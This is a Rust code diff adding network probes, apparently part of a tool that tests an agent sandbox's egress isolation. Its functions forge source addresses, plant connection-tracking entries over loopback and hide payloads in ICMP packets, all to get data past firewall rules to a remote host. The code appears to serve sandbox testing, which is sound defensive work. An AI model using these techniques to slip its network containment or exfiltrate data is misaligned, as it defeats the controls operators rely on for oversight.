@@ -421,3 +421,114 @@ pub fn caps() {
         println!("{}", line.replace(":\t", "=").replace('\t', " "));
     }
 }
+
+/// A datagram socket of `kind` (UDP, or an ICMP "ping" socket) bound to `addr`, which may be
+/// another host's (`freebind`), optionally tied to a device (any user may tie to `lo`).
+fn forged_socket(
+    addr: SocketAddr,
+    protocol: socket2::Protocol,
+    freebind: bool,
+    device: Option<&str>,
+) -> std::io::Result<socket2::Socket> {
+    let socket =
+        socket2::Socket::new(socket2::Domain::for_address(addr), socket2::Type::DGRAM, Some(protocol))?;
+    socket.set_reuse_address(true)?;
+    socket.set_reuse_port(true)?;
+    if freebind {
+        match addr {
+            SocketAddr::V4(_) => socket.set_freebind_v4(true)?,
+            SocketAddr::V6(_) => socket.set_freebind_v6(true)?,
+        }
+    }
+    if let Some(device) = device {
+        socket.bind_device(Some(device.as_bytes()))?;
+    }
+    socket.bind(&addr.into())?;
+    Ok(socket)
+}
+
+fn sent(result: std::io::Result<usize>) -> String {
+    match result {
+        Ok(n) => format!("{n}"),
+        Err(e) => outcome_of(&e),
+    }
+}
+
+/// `plant-udp REMOTE:PORT LOCAL:PORT MESSAGE`: a datagram "from" REMOTE (IPV6_FREEBIND) to the
+/// agent's own LOCAL over loopback plants the connection-tracking entry REMOTE → LOCAL; MESSAGE
+/// from LOCAL to REMOTE is then that entry's reply side, and REMOTE's answer its next packet.
+pub fn plant_udp(args: &Args) {
+    let (Ok(remote), Ok(local)) = (args.arg(1).parse::<SocketAddr>(), args.arg(2).parse::<SocketAddr>())
+    else {
+        return report(&[("outcome", "bad-address".into())]);
+    };
+    let mine = match UdpSocket::bind(local) {
+        Ok(socket) => socket,
+        Err(e) => return report(&[("outcome", outcome_of(&e))]),
+    };
+    let _ = mine.set_read_timeout(Some(args.timeout()));
+    let planted = forged_socket(remote, socket2::Protocol::UDP, true, None)
+        .and_then(|forged| forged.send_to(b"plant", &local.into()));
+    let exfiltrated = mine.send_to(args.arg(3).as_bytes(), remote);
+    let mut buf = [0u8; 2048];
+    let outcome = match mine.recv_from(&mut buf) {
+        Ok((n, from)) if from == remote => format!("answered:{}", String::from_utf8_lossy(&buf[..n])),
+        Ok((_, from)) => format!("answered-by:{from}"),
+        Err(e) => outcome_of(&e),
+    };
+    report(&[("planted", sent(planted)), ("sent", sent(exfiltrated)), ("outcome", outcome)]);
+}
+
+/// `lo-hole LOCAL:PORT REMOTE:PORT --ms N`: one datagram to REMOTE from a socket tied to `lo`
+/// (it never leaves, but plants the entry LOCAL → REMOTE); then answers, for N ms, whatever
+/// REMOTE sends to LOCAL, prefixed with `agent:`.
+pub fn lo_hole(args: &Args) {
+    let (Ok(local), Ok(remote)) = (args.arg(1).parse::<SocketAddr>(), args.arg(2).parse::<SocketAddr>())
+    else {
+        return report(&[("outcome", "bad-address".into())]);
+    };
+    let planted = forged_socket(local, socket2::Protocol::UDP, false, Some("lo"))
+        .and_then(|tied| tied.send_to(b"plant", &remote.into()));
+    println!("planted={}", sent(planted));
+    let listener = match forged_socket(local, socket2::Protocol::UDP, false, None) {
+        Ok(socket) => UdpSocket::from(socket),
+        Err(e) => return report(&[("outcome", outcome_of(&e))]),
+    };
+    let _ = std::io::stdout().flush();
+    let deadline = Instant::now() + Duration::from_millis(args.number("--ms", 5000));
+    let mut answered = 0;
+    let mut buf = [0u8; 2048];
+    while let Some(left) = deadline.checked_duration_since(Instant::now()) {
+        let _ = listener.set_read_timeout(Some(left.max(Duration::from_millis(1))));
+        let Ok((n, from)) = listener.recv_from(&mut buf) else { break };
+        let reply = [b"agent:".as_slice(), &buf[..n]].concat();
+        if listener.send_to(&reply, from).is_ok() {
+            answered += 1;
+        }
+    }
+    report(&[("answered", answered.to_string())]);
+}
+
+/// `forged-ping REMOTE LOCAL PAYLOAD`: an ICMPv6 echo request "from" REMOTE to the agent's own
+/// LOCAL over loopback: the kernel's echo reply, carrying PAYLOAD, is addressed to REMOTE.
+pub fn forged_ping(args: &Args) {
+    let (Ok(remote), Ok(local)) = (args.arg(1).parse::<IpAddr>(), args.arg(2).parse::<IpAddr>()) else {
+        return report(&[("outcome", "bad-address".into())]);
+    };
+    let echo = [[128u8, 0, 0, 0, 0, 0, 0, 1].as_slice(), args.arg(3).as_bytes()].concat();
+    let result = forged_socket(SocketAddr::new(remote, 0), socket2::Protocol::ICMPV6, true, None)
+        .and_then(|forged| forged.send_to(&echo, &SocketAddr::new(local, 0).into()));
+    report(&[("sent", sent(result))]);
+}
+
+/// `forged-source FORGED:PORT TARGET:PORT PAYLOAD`: a datagram "from" FORGED (IPV6_FREEBIND) to
+/// TARGET, a blocked address: a reject would carry PAYLOAD to FORGED inside the ICMP error.
+pub fn forged_source(args: &Args) {
+    let (Ok(forged), Ok(target)) = (args.arg(1).parse::<SocketAddr>(), args.arg(2).parse::<SocketAddr>())
+    else {
+        return report(&[("outcome", "bad-address".into())]);
+    };
+    let result = forged_socket(forged, socket2::Protocol::UDP, true, None)
+        .and_then(|socket| socket.send_to(args.arg(3).as_bytes(), &target.into()));
+    report(&[("sent", sent(result))]);
+}
